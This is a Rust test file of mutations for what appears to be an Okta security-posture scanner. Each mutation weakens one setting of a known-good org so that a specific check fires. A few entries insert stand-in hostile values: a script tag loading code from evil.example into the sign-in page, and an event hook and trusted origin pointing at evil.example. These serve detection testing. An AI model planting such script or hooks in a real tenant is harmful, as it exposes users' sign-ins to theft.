//! For each check the single change of the good org that it must notice, and the other checks that rightly notice it too.

use serde_json::{Value, json};

use crate::posture::fixture::{Fixture, ago};
use crate::posture::log::Fact;

/// One change.
pub(crate) struct Mutation {
    /// The check that is meant.
    pub(crate) check: &'static str,
    /// The others that must fail with it, sorted.
    pub(crate) also: &'static [&'static str],
    /// Makes the change.
    pub(crate) make: fn(&mut Fixture),
}

const fn on(check: &'static str, make: fn(&mut Fixture)) -> Mutation {
    Mutation { check, also: &[], make }
}

impl Mutation {
    const fn also(self, also: &'static [&'static str]) -> Self {
        Self { also, ..self }
    }
}

fn days(days: i64) -> Value {
    json!(ago(days).to_string())
}

const PASSWORD: &str = "/settings/password";
const SIGN_ON: &str = "/actions/signon";
const METHOD: &str = "/actions/appSignOn/verificationMethod";
const SPA: &str = "/settings/oauthClient";

fn password(org: &mut Fixture, member: &str, value: Value) {
    org.set("policy", "p-pass", &format!("{PASSWORD}/{member}"), value);
}

fn sign_on(org: &mut Fixture, member: &str, value: Value) {
    org.set("policy_rule", "p-signon/r2", &format!("{SIGN_ON}/{member}"), value);
}

fn spa(org: &mut Fixture, member: &str, value: Value) {
    org.set("app", "a-spa", &format!("{SPA}/{member}"), value);
}

/// A policy of its own for one app, whose rule is spoiled.
fn own_policy(org: &mut Fixture, app: &str, member: &str, value: Value) {
    let of = |org: &Fixture, entity: &str, id: &str| {
        org.inventory.records(entity).iter().find(|found| found.id == id).unwrap().json.clone()
    };
    let (policy, rule, last) =
        (of(org, "policy", "p-access"), of(org, "policy_rule", "p-access/r1"), of(org, "policy_rule", "p-access/r9"));
    org.add("policy", "p-own", policy);
    org.add("policy_rule", "p-own/r1", rule);
    org.add("policy_rule", "p-own/r9", last);
    org.set("policy_rule", "p-own/r1", &format!("{METHOD}/{member}"), value);
    org.set("app", app, "/_links/accessPolicy/href", json!("https://acme.okta.com/api/v1/policies/p-own"));
}

fn new_admin(org: &mut Fixture, user: &str, kind: &str) {
    org.add(
        "user_role",
        &format!("{user}/r1"),
        json!({"type": kind, "status": "ACTIVE", "created": ago(200).to_string()}),
    );
    org.add("user_role_governance", &format!("{user}/r1/gg"), json!({"expirationDate": ago(-30).to_string()}));
    org.seen(Fact::AdminActive, user, 1, 1);
    org.seen(Fact::AppsOfUser, user, 1, 1);
}

/// More people, all as they should be.
fn more_people(org: &mut Fixture, count: u32) -> Vec<String> {
    let model = org.inventory.records("user").iter().find(|user| user.id == "u3").unwrap().json.clone();
    let ids: Vec<String> = (0..count).map(|number| format!("w{number:02}")).collect();
    for id in &ids {
        org.add("user", id, model.clone());
        for (member, value) in [
            ("login", format!("{id}@acme.example")),
            ("email", format!("{id}@acme.example")),
            ("employeeNumber", id.clone()),
        ] {
            org.set("user", id, &format!("/profile/{member}"), json!(value));
        }
        for (factor, kind) in [("f1", "webauthn"), ("f2", "signed_nonce")] {
            org.add("user_factor", &format!("{id}/{factor}"), json!({"factorType": kind, "status": "ACTIVE"}));
        }
        org.add("group_member", &format!("g2/{id}"), json!({}));
        org.seen(Fact::UserActive, id, 1, 1);
    }
    ids
}

/// All changes, in the order of the files of checks.
#[rustfmt::skip]
pub(crate) const MUTATIONS: &[Mutation] = &[
    // Sessions.
    on("session-admin-console-idle", |org| org.set("first_party_app_setting", "admin-console", "/sessionIdleTimeoutMinutes", json!(60))),
    on("session-admin-console-lifetime", |org| org.set("first_party_app_setting", "admin-console", "/sessionMaxLifetimeMinutes", Value::Null)),
    on("session-binding-off", |org| org.set("feature", "f1", "/status", json!("DISABLED"))),
    on("session-global-idle", |org| sign_on(org, "session/maxSessionIdleMinutes", json!(720))),
    on("session-global-lifetime", |org| sign_on(org, "session/maxSessionLifetimeMinutes", json!(0))),
    on("session-global-no-zone", |org| org.set("policy_rule", "p-signon/r1", "/priority", json!(3))).also(&["policy-inactive-strong-rule"]),
    on("session-mfa-remembered", |org| { sign_on(org, "factorPromptMode", json!("DEVICE")); sign_on(org, "factorLifetime", json!(43_200)); }),
    on("session-persistent-cookie", |org| sign_on(org, "session/usePersistentCookie", json!(true))),
    on("session-reauth-never", |org| org.set("policy_rule", "p-access/r1", &format!("{METHOD}/reauthenticateIn"), json!("PT43800H"))),
    // Sign-in policies.
    on("mfa-admin-console-phishing-resistant", |org| own_policy(org, "a-console", "constraints", json!([{"possession": {"phishingResistant": "REQUIRED"}}, {"possession": {"deviceBound": "REQUIRED"}}]))),
    on("mfa-admin-console-required", |org| own_policy(org, "a-console", "factorMode", json!("1FA"))).also(&["mfa-app-single-factor"]),
    on("mfa-app-privileged-phishable", |org| own_policy(org, "a-aws", "constraints", json!([]))),
    on("mfa-app-single-factor", |org| own_policy(org, "a-spa", "factorMode", json!("1FA"))),
    on("mfa-dashboard-phishing-resistant", |org| own_policy(org, "a-dash", "constraints", json!([]))),
    on("mfa-dashboard-required", |org| own_policy(org, "a-dash", "factorMode", json!("1FA"))).also(&["mfa-app-single-factor"]),
    on("policy-account-management-weak", |org| org.set("policy_rule", "p-account/r1", &format!("{METHOD}/constraints"), json!([]))),
    on("policy-app-no-device-condition", |org| org.set("policy_rule", "p-access/r1", "/conditions/device", json!({"registered": true}))),
    on("policy-app-no-zone", |org| org.set("policy_rule", "p-access/r1", "/conditions/network", json!({"connection": "ANYWHERE"}))),
    on("policy-catch-all-allows", |org| org.set("policy_rule", "p-access/r9", "/actions/appSignOn", json!({"access": "ALLOW", "verificationMethod": {"type": "ASSURANCE", "factorMode": "2FA", "reauthenticateIn": "PT2H", "constraints": [{"possession": {"phishingResistant": "REQUIRED"}}]}}))).also(&["policy-app-no-device-condition"]),
    on("policy-entity-risk-no-action", |org| org.set("policy_rule", "p-risk/r1", "/actions/entityRisk/actions", json!([]))),
    on("policy-excluded-people", |org| org.set("policy_rule", "p-signon/r1", "/conditions/people", json!({"users": {"exclude": ["u6", "u3"]}}))),
    on("policy-inactive-strong-rule", |org| { org.set("policy_rule", "p-signon/r1", "/priority", json!(2)); org.set("policy_rule", "p-signon/r2", "/priority", json!(1)); org.set("policy_rule", "p-signon/r2", "/conditions/network", json!({})); }).also(&["session-global-no-zone"]),
    on("policy-risk-not-used", |org| { for policy in ["p-access", "p-account"] { org.set("policy_rule", &format!("{policy}/r1"), "/conditions/riskScore/level", json!("ANY")); } }),
    on("session-global-no-mfa", |org| { own_policy(org, "a-spa", "factorMode", json!("1FA")); sign_on(org, "requireFactor", json!(false)); sign_on(org, "primaryFactor", json!("PASSWORD_IDP")); }).also(&["mfa-app-single-factor"]),
    // Authenticators.
    on("mfa-enroll-none-required", |org| org.set("policy", "p-enroll", "/settings/authenticators/1/enroll/self", json!("OPTIONAL"))),
    on("mfa-fastpass-user-verification", |org| org.set("authenticator", "au1", "/settings/userVerification", json!("PREFERRED"))),
    on("mfa-okta-verify-fips", |org| org.set("authenticator", "au1", "/settings/compliance/fips", json!("OPTIONAL"))),
    on("mfa-okta-verify-missing", |org| org.set("authenticator", "au1", "/status", json!("INACTIVE"))),
    on("mfa-phishing-resistant-available", |org| { org.set("authenticator", "au2", "/status", json!("INACTIVE")); org.set("authenticator", "au3", "/status", json!("INACTIVE")); org.set("authenticator_method", "au1/signed_nonce", "/status", json!("INACTIVE")); }).also(&["mfa-smart-card-active"]),
    on("mfa-smart-card-active", |org| org.remove("authenticator", "au3")),
    on("mfa-smart-card-ca", |org| org.set("identity_provider", "idp2", "/protocol/credentials/trust/issuer", json!("CN=Cards, O=Somebody"))),
    on("mfa-weak-authenticator-allowed", |org| org.set("authenticator", "au4", "/settings/allowedFor", json!("any"))),
    on("mfa-webauthn-any-aaguid", |org| org.set("policy", "p-enroll", "/settings/authenticators/2/constraints", json!({}))),
    // Sign-in pages.
    on("signin-banner", |org| org.set("brand_sign_in_page", "b1/page", "/pageContent", json!("<p>Welcome</p>"))),
    on("signin-captcha", |org| org.set("org_captcha", "s", "/captchaId", Value::Null)),
    on("signin-knowledge-first", |org| org.set("authenticator_setting", "s", "/verifyKnowledgeSecondWhen2faRequired", json!(false))),
    on("signin-lockout-unknown-device", |org| org.set("user_lockout_setting", "s", "/preventBruteForceLockoutFromUnknownDevices", json!(false))),
    on("signin-page-custom-js", |org| org.set("brand_sign_in_page", "b1/page", "/pageContent", json!("You are accessing a U.S. Government (USG) Information System<script src=//evil.example/k.js></script>"))),
    // Passwords.
    on("password-auto-unlock", |org| password(org, "lockout/autoUnlockMinutes", json!(5))),
    on("password-breached", |org| password(org, "breachedProtection", Value::Null)),
    on("password-common", |org| password(org, "complexity/dictionary/common/exclude", json!(false))),
    on("password-exclude-names", |org| password(org, "complexity/excludeAttributes", json!(["firstName"]))),
    on("password-exclude-username", |org| password(org, "complexity/excludeUsername", json!(false))),
    on("password-expire-warning", |org| password(org, "age/expireWarnDays", json!(0))),
    on("password-history", |org| password(org, "age/historyCount", json!(4))),
    on("password-length", |org| password(org, "complexity/minLength", json!(8))),
    on("password-lockout", |org| password(org, "lockout/maxAttempts", json!(0))),
    on("password-lowercase", |org| password(org, "complexity/minLowerCase", json!(0))),
    on("password-max-age", |org| password(org, "age/maxAgeDays", json!(0))),
    on("password-min-age", |org| password(org, "age/minAgeMinutes", json!(60))),
    on("password-number", |org| password(org, "complexity/minNumber", json!(0))),
    on("password-policy-uncovered", |org| org.set("policy", "p-pass", "/conditions/people/groups/include", json!(["g1"]))),
    on("password-recovery-email", |org| org.set("policy", "p-pass", "/settings/recovery/factors/okta_email/properties/recoveryToken/tokenLifetimeMinutes", json!(10_080))),
    on("password-recovery-question", |org| org.set("policy", "p-pass", "/settings/recovery/factors/recovery_question/status", json!("ACTIVE"))),
    on("password-recovery-sms", |org| org.set("policy", "p-pass", "/settings/recovery/factors/okta_sms/status", json!("ACTIVE"))),
    on("password-show-lockout", |org| password(org, "lockout/showLockoutFailures", json!(false))),
    on("password-stale-hash-import", |org| org.set("user", "u3", "/credentials/provider/type", json!("IMPORT"))),
    on("password-symbol", |org| password(org, "complexity/minSymbol", json!(0))),
    on("password-uppercase", |org| password(org, "complexity/minUpperCase", json!(0))),
    // People.
    on("user-deactivated-then-active", |org| org.seen(Fact::ActedAfterLeaving, "u4", 10, 1)),
    on("user-deprovisioned-with-access", |org| org.add("app_user", "a-aws/u4", json!({"scope": "GROUP", "created": ago(10).to_string()}))),
    on("user-guest-inactive", |org| { org.set("user", "u5", "/lastLogin", days(40)); org.seen(Fact::UserActive, "u5", 32, 1); }),
    on("user-inactive", |org| { org.set("user", "u3", "/lastLogin", days(60)); org.seen(Fact::UserActive, "u3", 50, 1); }),
    on("user-locked-out", |org| org.set("user", "u3", "/status", json!("LOCKED_OUT"))),
    on("user-never-logged-in", |org| { org.set("user", "u3", "/lastLogin", Value::Null); org.unseen(Fact::UserActive, "u3"); }),
    on("user-password-not-rotated-after-breach", |org| org.seen(Fact::BreachedCredential, "u3", 2, 1)),
    on("user-password-old", |org| org.set("user", "u3", "/passwordChanged", days(400))),
    on("user-staged-forever", |org| { org.set("user", "u3", "/status", json!("STAGED")); org.set("user", "u3", "/statusChanged", days(31)); }),
    on("user-break-glass", |org| { org.set("user", "u6", "/lastLogin", days(2)); org.seen(Fact::UserActive, "u6", 2, 1); }),
    on("user-many-devices", |org| { for number in 2..8 { org.add("device", &format!("d{number}"), json!({"status": "ACTIVE", "created": ago(9).to_string(), "_embedded": {"users": [{"user": {"id": "u3"}}]}, "profile": {"platform": "MACOS", "diskEncryptionType": "FULL"}})); } }),
    on("user-mfa-unused-strong", |org| org.seen(Fact::PhishableShare, "u3", 1, 90)),
    on("user-no-mfa", |org| { org.remove("user_factor", "u3/f1"); org.remove("user_factor", "u3/f2"); }),
    on("user-risk-high", |org| org.set("user_risk", "u3/risk", "/riskLevel", json!("HIGH"))),
    on("user-shared-device", |org| org.set("device", "d1", "/_embedded/users", json!([{"user": {"id": "u3"}}, {"user": {"id": "u5"}}]))),
    on("user-shared-phone", |org| { for user in ["u3", "u5"] { org.add("user_factor", &format!("{user}/f3"), json!({"factorType": "sms", "status": "ACTIVE", "profile": {"phoneNumber": "h1"}})); } }),
    on("user-weak-factors-only", |org| { org.remove("user_factor", "u3/f1"); org.set("user_factor", "u3/f2", "/factorType", json!("sms")); org.set("user_factor", "u3/f2", "/profile", json!({"phoneNumber": "h1"})); }),
    on("user-attr-self-writable-grants", |org| org.set("group_rule", "gr1", "/conditions/expression/value", json!("user.nickName == \"boss\""))),
    on("user-duplicate-identity", |org| org.set("user", "u3", "/profile/email", json!("BOB@acme.example"))),
    on("user-external-secondary-email", |org| org.set("user", "u3", "/profile/secondEmail", json!("carl@mail.example"))),
    on("user-manager-gone", |org| org.set("user", "u3", "/profile/managerId", json!("u4"))),
    on("user-mandatory-field-missing", |org| org.set("user", "u3", "/profile/department", Value::Null)),
    on("user-type-missing", |org| org.set("user", "u3", "/profile/userType", Value::Null)),
    // Admins.
    on("admin-dormant", |org| org.seen(Fact::AdminActive, "u9", 100, 1)),
    on("admin-never-used", |org| org.seen(Fact::AdminActive, "u1", 300, 1)).also(&["admin-dormant"]),
    on("admin-no-backup-factor", |org| org.remove("user_factor", "u1/f1")),
    on("admin-no-mfa", |org| { org.remove("user_factor", "u9/f1"); org.remove("user_factor", "u9/f2"); }).also(&["admin-no-phishing-resistant", "user-no-mfa"]),
    on("admin-no-phishing-resistant", |org| { org.remove("user_factor", "u9/f1"); org.set("user_factor", "u9/f2", "/factorType", json!("push")); }),
    on("admin-not-in-hr", |org| { org.set("user", "u9", "/profile/managerId", Value::Null); org.set("user", "u9", "/profile/employeeNumber", Value::Null); }),
    on("admin-old-password", |org| org.set("user", "u9", "/passwordChanged", days(61))).also(&["user-password-old"]),
    on("admin-privileged-count", |org| { for id in more_people(org, 26) { new_admin(org, &id, "READ_ONLY_ADMIN"); } }),
    on("admin-signs-in-for-daily-work", |org| org.seen(Fact::AppsOfUser, "u9", 1, 9)),
    on("admin-super-count", |org| { for id in more_people(org, 4) { new_admin(org, &id, "SUPER_ADMIN"); } }),
    on("admin-super-single", |org| org.remove("user_role", "u2/r1")),
    on("admin-synced-from-outside", |org| org.set("user", "u9", "/credentials/provider/type", json!("ACTIVE_DIRECTORY"))),
    on("admin-unexpected-status", |org| org.set("user", "u9", "/status", json!("SUSPENDED"))).also(&["user-deprovisioned-with-access"]),
    on("admin-weak-factor-enrolled", |org| org.add("user_factor", "u9/f3", json!({"factorType": "sms", "status": "ACTIVE", "profile": {"phoneNumber": "h9"}}))),
    on("admin-app-admin-over-privileged-app", |org| { let id = more_people(org, 1).remove(0); new_admin(org, &id, "APP_ADMIN"); }),
    on("admin-auto-assign-console", |org| org.set("auto_assign_admin_app_setting", "s", "/autoAssignAdminAppSetting", json!(false))),
    on("admin-by-group-owner", |org| org.add("group_owner", "g3/u1", json!({"type": "USER", "displayName": "Ada"}))),
    on("admin-custom-role-dangerous", |org| { org.add("custom_role_permission", "cr1/okta.policies.manage", json!({"label": "okta.policies.manage"})); org.seen(Fact::PermissionUsed, "cr1/okta.policies.manage", 1, 1); }),
    on("admin-helpdesk-can-reset-admin", |org| { org.set("resource_set_resource", "rs1/x1", "/orn", json!("orn:okta:directory:00o1:groups:g3")); org.add("custom_role_permission", "cr1/okta.users.credentials.resetPassword", json!({"label": "okta.users.credentials.resetPassword"})); org.seen(Fact::PermissionUsed, "cr1/okta.users.credentials.resetPassword", 1, 1); }).also(&["admin-custom-role-dangerous"]),
    on("admin-linked-to-idp", |org| org.add("identity_provider_user", "idp1/u1", json!({}))),
    on("admin-resource-set-wide", |org| org.set("resource_set_resource", "rs1/x1", "/orn", json!("orn:okta:directory:00o1:users"))),
    on("admin-third-party", |org| org.set("third_party_admin_setting", "s", "/thirdPartyAdmin", json!(true))),
    on("admin-notifications-off", |org| org.set("role_subscription", "SUPER_ADMIN/USER_LOCKED_OUT", "/status", json!("unsubscribed"))),
    on("admin-permission-unused", |org| org.unseen(Fact::PermissionUsed, "cr1/okta.users.read")),
    on("admin-protected-actions-off", |org| org.seen(Fact::ProtectedActions, "off", 5, 1)),
    on("admin-standing", |org| org.remove("user_role_governance", "u1/r1/gg")),
    // Tokens.
    on("token-no-network", |org| org.set("api_token", "t1", "/network", json!({"connection": "ANYWHERE"}))),
    on("token-old", |org| org.set("api_token", "t1", "/created", days(400))),
    on("token-owner-gone", |org| org.set("api_token", "t1", "/userId", json!("u4"))).also(&["user-deprovisioned-with-access"]),
    on("token-owner-super-admin", |org| org.set("api_token", "t1", "/userId", json!("u1"))),
    on("token-unused", |org| org.seen(Fact::TokenUsed, "t1", 91, 1)),
    on("token-used-from-many-places", |org| org.seen(Fact::TokenNetworks, "t1", 1, 7)),
    // Clients.
    on("app-api-service-integration", |org| org.set("api_service_integration", "si1", "/grantedScopes", json!(["okta.users.manage"]))),
    on("app-client-secret-where-key-possible", |org| org.set("app", "a-svc", "/credentials/oauthClient/token_endpoint_auth_method", json!("client_secret_basic"))),
    on("app-no-dpop", |org| org.set("app", "a-svc", &format!("{SPA}/dpop_bound_access_tokens"), json!(false))),
    on("app-no-pkce", |org| org.set("app", "a-spa", "/credentials/oauthClient/pkce_required", json!(false))),
    on("app-refresh-token-no-rotation", |org| spa(org, "refresh_token/rotation_type", json!("STATIC"))),
    on("app-risky-grants", |org| spa(org, "grant_types", json!(["implicit"]))),
    on("app-secret-old", |org| org.set("app_jwk", "a-svc/j1", "/created", days(366))),
    on("app-service-manage-scopes", |org| { org.set("app_grant", "a-svc/s1", "/scopeId", json!("okta.users.manage")); org.seen(Fact::ScopeUsed, "a-svc/okta.users.manage", 1, 1); }),
    on("app-service-scopes-unused", |org| org.unseen(Fact::ScopeUsed, "a-svc/okta.logs.read")),
    on("app-service-super-admin", |org| org.set("client_role", "a-svc/r1", "/type", json!("SUPER_ADMIN"))),
    on("app-wildcard-redirect", |org| spa(org, "redirect_uris", json!(["http://spa.acme.example/cb"]))),
    on("app-xaa-connections", |org| org.add("app_interclient_allowed", "a-spa/a-svc", json!({"id": "a-svc"}))),
    on("org-client-privileges-default", |org| org.set("client_privileges_setting", "s", "/clientPrivilegesSetting", json!(true))),
    // Apps.
    on("app-assigned-everyone", |org| org.add("app_group", "a-aws/g2", json!({}))),
    on("app-assignment-unused", |org| org.unseen(Fact::AssignmentUsed, "a-spa/u5")),
    on("app-direct-assignments", |org| org.set("app_user", "a-spa/u5", "/scope", json!("USER"))),
    on("app-inactive-with-users", |org| org.set("app", "a-spa", "/status", json!("INACTIVE"))),
    on("app-org2org", |org| org.set("app", "a-spa", "/name", json!("okta_org2org"))),
    on("app-scim-password-push", |org| org.set("app", "a-aws", "/features", json!(["PUSH_PASSWORD_UPDATES"]))),
    on("app-swa", |org| { org.set("app", "a-spa", "/signOnMode", json!("BROWSER_PLUGIN")); org.set("app", "a-spa", "/credentials", json!({"revealPassword": false})); }),
    on("app-swa-password-reveal", |org| { org.set("app", "a-spa", "/signOnMode", json!("AUTO_LOGIN")); org.set("app", "a-spa", "/credentials", json!({"revealPassword": true})); }).also(&["app-swa"]),
    on("app-unused", |org| org.unseen(Fact::AppUsed, "a-spa")),
    on("cert-expiring", |org| org.set("app_key", "a-aws/k1", "/expiresAt", days(-10))),
    // Federation.
    on("idp-autolink-open", |org| org.set("identity_provider", "idp1", "/policy/accountLink", json!({"action": "AUTO"}))).also(&["admin-linked-to-idp"]),
    on("idp-inactive-with-users", |org| org.set("identity_provider", "idp1", "/status", json!("INACTIVE"))),
    on("idp-mfa-bypass", |org| org.set("identity_provider", "idp1", "/policy/trustClaims", json!(true))),
    on("idp-routing", |org| org.set("policy_rule", "p-idp/r1", "/conditions/userIdentifier/patterns/0/value", json!("@ACME.example"))),
    on("idp-unexpected", |org| org.set("identity_provider", "idp1", "/name", json!("Partner 2"))),
    on("idp-weak-saml", |org| org.set("identity_provider", "idp1", "/protocol/algorithms/response/signature/algorithm", json!("SHA-1"))),
    on("saml-app-weak-signing", |org| org.set("app", "a-aws", "/settings/signOn/signatureAlgorithm", json!("RSA_SHA1"))),
    // Authorization servers.
    on("as-claims-injection", |org| org.set("authorization_server_claim", "as1/c1", "/value", json!("user.nickName"))),
    on("as-policy-wide", |org| org.set("authorization_server_policy", "as1/ap1", "/conditions/clients/include", json!(["ALL_CLIENTS"]))),
    on("as-signing-manual", |org| org.set("authorization_server", "as1", "/credentials/signing/lastRotated", days(400))),
    // Network.
    on("behavior-rules-missing", |org| org.set("behavior", "VELOCITY", "/status", json!("INACTIVE"))),
    on("origin-foreign", |org| org.set("trusted_origin", "o1", "/origin", json!("https://acme.example.evil.example"))),
    on("origin-http", |org| org.set("trusted_origin", "o1", "/origin", json!("http://www.acme.example"))),
    on("origin-wildcard-cors", |org| org.set("trusted_origin", "o1", "/origin", json!("https://*.acme.example"))),
    on("threatinsight-exempt", |org| org.set("threat_insight", "s", "/excludeZones", json!(["z1"]))),
    on("threatinsight-not-blocking", |org| org.set("threat_insight", "s", "/action", json!("audit"))),
    on("zone-anonymizers-open", |org| org.set("network_zone", "z2", "/ipServiceCategories/include", json!(["ORACLE_CLOUD"]))),
    on("zone-denied-countries", |org| org.seen(Fact::CountrySeen, "KP", 3, 1)),
    on("zone-no-blocklist", |org| { for zone in ["z2", "z3"] { org.set("network_zone", zone, "/status", json!("INACTIVE")); } }).also(&["zone-anonymizers-open", "zone-denied-countries"]),
    on("zone-too-wide", |org| org.set("network_zone", "z1", "/gateways/0/value", json!("198.0.0.0/8"))),
    on("zone-unused", |org| org.add("network_zone", "z4", json!({"name": "Old office", "status": "ACTIVE", "usage": "POLICY", "system": false}))),
    // Hooks.
    on("hook-foreign", |org| org.set("event_hook", "h1", "/channel/config/uri", json!("https://evil.example/x"))),
    on("hook-inline-token", |org| org.set("inline_hook", "i1", "/type", json!("com.okta.oauth2.tokens.transform"))),
    // Devices.
    on("device-assurance-missing", |org| org.set("device", "d1", "/profile/platform", json!("WINDOWS"))),
    on("device-stale", |org| org.seen(Fact::DeviceUsed, "d1", 95, 1)),
    on("device-unhealthy", |org| org.set("device", "d1", "/profile/diskEncryptionType", json!("NONE"))),
    // Groups.
    on("group-empty-privileged", |org| { org.add("group", "g5", json!({"type": "OKTA_GROUP", "profile": {"name": "Spare"}})); org.add("group_role", "g5/r1", json!({"type": "READ_ONLY_ADMIN", "status": "ACTIVE"})); }),
    on("group-large-privileged", |org| { org.settings.declared.privileged_groups.insert("Engineers".to_owned()); for id in more_people(org, 9) { org.add("group_member", &format!("g1/{id}"), json!({})); } }).also(&["group-push-privileged"]),
    on("group-nested-everyone", |org| org.add("group_role", "g2/r1", json!({"type": "REPORT_ADMIN", "status": "ACTIVE"}))).also(&["admin-dormant", "admin-linked-to-idp"]),
    on("group-owner-gone", |org| org.add("group_owner", "g1/u4", json!({"type": "USER", "displayName": "Dora"}))),
    on("group-push-privileged", |org| org.set("group_push_mapping", "a-aws/m1", "/sourceGroupId", json!("g3"))),
    on("group-rule-invalid", |org| org.set("group_rule", "gr1", "/status", json!("INVALID"))),
    on("group-rule-to-privileged", |org| org.set("group_rule", "gr1", "/actions/assignUserToGroups/groupIds", json!(["g1"]))),
    // Logging.
    on("identity-no-log-activity-but-lastlogin", |org| org.seen(Fact::UserActive, "u3", 20, 1)),
    on("log-gap", |org| org.log.incomplete_hours = Some(3)),
    on("log-not-exported", |org| { org.set("log_stream", "l1", "/status", json!("INACTIVE")); org.log.complete_since = Some(ago(0)); }).also(&["log-retention"]),
    on("log-retention", |org| org.log.complete_since = Some(ago(100))),
    on("notify-factor-enroll", |org| org.seen(Fact::Event, "system.email.mfa_enroll_notification.sent_message", 60, 1)),
    on("notify-factor-reset", |org| org.seen(Fact::Event, "system.email.mfa_reset_notification.sent_message", 60, 1)),
    on("notify-signon", |org| org.seen(Fact::Event, "system.email.new_device_notification.sent_message", 60, 1)),
    on("rate-limit-starved", |org| org.seen(Fact::Event, "system.org.rate_limit.violation", 2, 1)),
    on("report-suspicious-off", |org| org.seen(Fact::Event, "user.account.report_suspicious_activity_by_enduser", 91, 1)),
    // The org.
    on("agent-new", |org| org.seen(Fact::AgentCreated, "ag2", 2, 1)),
    on("agent-outdated", |org| org.set("agent_pool", "ap1", "/agents/0/isLatestGAedVersion", json!(false))),
    on("domain-custom-unverified", |org| org.set("domain", "dm1", "/certificateSourceType", json!("MANUAL"))),
    on("email-sender-custom", |org| org.set("email_domain", "e1", "/validationStatus", json!("ERROR"))),
    on("inactivity-automation", |org| org.set("policy_rule", "p-life/r1", "/conditions/people/users/inactivity/number", json!(90))),
    on("org-comm-optout", |org| org.set("okta_communication", "s", "/optOutEmailUsers", json!(true))),
    on("org-contacts-gone", |org| org.set("org_contact_user", "TECHNICAL/c", "/userId", json!("u4"))),
    on("support-access-open", |org| org.set("okta_support", "s", "/support", json!("ENABLED"))),
    // Agents, governance, drift.
    on("agent-ai-owner", |org| org.set("ai_agent", "ai1", "/owners/0/id", json!("u4"))),
    on("service-account-opa", |org| org.set("service_account", "sa1", "/statusDetail", json!("UNMANAGED"))),
    on("iga-review-stale", |org| org.set("access_campaign", "ac1", "/endDate", days(400))),
    on("drift-config", |org| org.seen(Fact::DiffersFromBaseline, "policy/p-pass", 3, 1)),
    on("drift-unexplained", |org| org.seen(Fact::UnexplainedChange, "policy/p-pass", 3, 1)),
    on("drift-weakened", |org| org.seen(Fact::Weakened, "password-length", 3, 1)),
    on("posture-coverage", |org| org.inventory.entities.get_mut("policy_rule").unwrap().known = crate::inventory::Known::Partial { reasons: vec!["429".to_owned()], parents_unread: 1 }),
];
